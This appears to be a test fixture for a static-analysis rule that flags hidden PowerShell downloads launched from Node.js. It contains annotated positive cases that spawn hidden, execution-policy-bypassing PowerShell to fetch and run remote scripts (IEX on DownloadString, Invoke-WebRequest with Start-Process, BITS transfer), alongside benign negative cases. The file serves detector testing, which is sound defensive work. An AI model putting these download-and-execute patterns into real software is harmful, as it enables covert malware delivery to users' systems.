// RULEID: hidden PowerShell downloading a script (argv array, one-line command, WebClient, BITS)
// OK: visible PowerShell download of a pinned tool, hidden PowerShell that only reads state,
//     Node https download without PowerShell
const cp = require("child_process");

function stageOne(url, dest) {
  // ruleid: generic-hidden-powershell-download
  const ps = `Invoke-WebRequest -UseBasicParsing -Uri '${url}' -OutFile ${dest}; Start-Process ${dest}`;
  cp.spawn("powershell.exe", ["-NoProfile", "-WindowStyle", "Hidden", "-ExecutionPolicy", "Bypass", "-Command", ps], {
    detached: true,
    stdio: "ignore",
  }).unref();
}

function stageTwo(url) {
  // ruleid: generic-hidden-powershell-download
  cp.exec(`powershell -w hidden -nop -c "IEX (New-Object Net.WebClient).DownloadString('${url}')"`);
}

function stageThree(url, out) {
  // ruleid: generic-hidden-powershell-download
  cp.execFile("pwsh", ["-NoLogo", "-WindowStyle=Hidden", "-Command", `Start-BitsTransfer -Source ${url} -Destination ${out}`]);
}

function fetchTool(version) {
  // ok: generic-hidden-powershell-download
  cp.execFileSync("powershell", ["-NoProfile", "-Command", `Invoke-WebRequest https://github.com/org/tool/releases/download/v${version}/tool.zip -OutFile tool.zip`]);
}

function screenSize() {
  // ok: generic-hidden-powershell-download
  return cp.execSync('powershell -NoProfile -WindowStyle Hidden -Command "Add-Type -AssemblyName System.Windows.Forms; [System.Windows.Forms.Screen]::PrimaryScreen.Bounds"');
}

module.exports = { stageOne, stageTwo, stageThree, fetchTool, screenSize };
